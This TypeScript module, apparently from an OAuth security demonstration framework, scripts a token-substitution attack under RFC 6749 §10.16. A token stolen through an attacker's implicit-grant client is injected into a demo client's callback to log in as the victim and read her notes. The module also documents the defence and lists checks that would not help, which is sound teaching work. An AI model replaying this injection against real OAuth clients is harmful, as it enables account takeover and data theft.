import { redirectTarget } from '../../client/page-visitor.js'
import type { Step } from '../../flows/step.js'
import type { Refusal } from './defence.js'
import { clientUrl, shownBy } from './demo-client.js'
import { type Attack, planned } from './model.js'
import { authorizationUrl, authorize, parameterOf } from './moves.js'
import { quizEntry, quizPart } from './quiz.js'
import type { Scene } from './scene.js'

async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, void> {
  const { victim, attacker, accounts, catcher, step } = scene
  const url = authorizationUrl(scene, {
    ...{ response_type: 'token', client_id: catcher.client, redirect_uri: catcher.address },
    ...{ scope: 'openid profile', state: 'of-the-quiz' },
  })
  const names = ['authorization_request', 'login'] as const
  const landing = yield* authorize(scene, url, { browser: victim, account: accounts.victim, names })
  const token = landing.target === undefined ? undefined : parameterOf(landing.target, 'access_token')
  if (token === undefined) return scene.refusal(landing.exchange)
  // The page of the quiz reads the fragment, as the client of an implicit grant does.
  yield step('theft', { exchange: (await victim.follow(landing.exchange))!, note: 'an honest login so far' })

  const begun = await attacker.open(`${clientUrl(scene)}/login`)
  const own = redirectTarget(begun)
  yield step('attacker_login', { exchange: begun })
  const state = own === undefined ? undefined : parameterOf(own, 'state')
  const callback = (own && parameterOf(own, 'redirect_uri')) ?? `${clientUrl(scene)}/callback`
  const answer: [string, string][] = [
    ['access_token', token],
    ['token_type', 'Bearer'],
    ['expires_in', '3600'],
    ['iss', scene.urls.authorization],
  ]
  if (state !== undefined) answer.push(['state', state])
  const relay = await attacker.open(callback)
  const injected = await attacker.post(callback, answer, relay)
  yield step('injection', { exchange: injected })
  const notes = await shownBy(attacker, injected)
  if (notes !== injected) yield step('stolen_notes', { exchange: notes })
  return scene.refusal(injected)
}

/** A token that another client got, taken for a login. */
export const tokenSubstitution: Attack = {
  name: 'token-substitution',
  title: 'a token that another client got, taken for a login',
  rule: 'RFC 6749 §10.16',
  weak: ['implicit-login'],
  opened: { 'implicit-login': { stolen: true } },
  starts: [
    'The attacker runs a client of their own, which alice logs in to.',
    'Alice allows it to know who she is, and nothing else.',
  ],
  steals: 'notes of alice',
  defences: [{ check: 'access_token', rule: 'RFC 6749 §10.16' }],
  wouldNotHelp: [
    'state: it is the state of the attacker’s own session',
    'the signature of the token: the token is real',
    'asking userinfo: it answers truly who the token is about, and not for whom it was made',
  ],
  demoClient: true,
  clients: site => [
    {
      ...quizEntry(site),
      ...{ grant_types: ['implicit'], response_types: ['token'] },
    },
  ],
  running: quizPart,
  plan: [
    planned(
      'authorization_request',
      ['user_agent', 'authorization_server'],
      'GET /authorization',
      '6749 §4.2.1',
      'Alice logs in for the quiz of the attacker.',
    ),
    planned(
      'login',
      ['user_agent', 'authorization_server'],
      'POST /authorization',
      '6749 §4.2.1',
      'She allows the quiz to know who she is.',
    ),
    planned(
      'theft',
      ['user_agent', 'attacker'],
      'the access token',
      '6749 §4.2.2',
      'The token comes to the quiz, as it should.',
    ),
    planned(
      'attacker_login',
      ['attacker', 'client'],
      'GET /login',
      '6749 §4.2',
      'The attacker starts a login at the demo client.',
    ),
    planned(
      'injection',
      ['attacker', 'client'],
      'POST /callback',
      '6749 §10.16',
      'The attacker delivers the token of alice. The client must ask for whom a token was made.',
    ),
    planned(
      'stolen_notes',
      ['attacker', 'client'],
      'GET /notes',
      '6749 §10.16',
      'The attacker is logged in as alice, and reads her notes.',
    ),
  ],
  run,
}
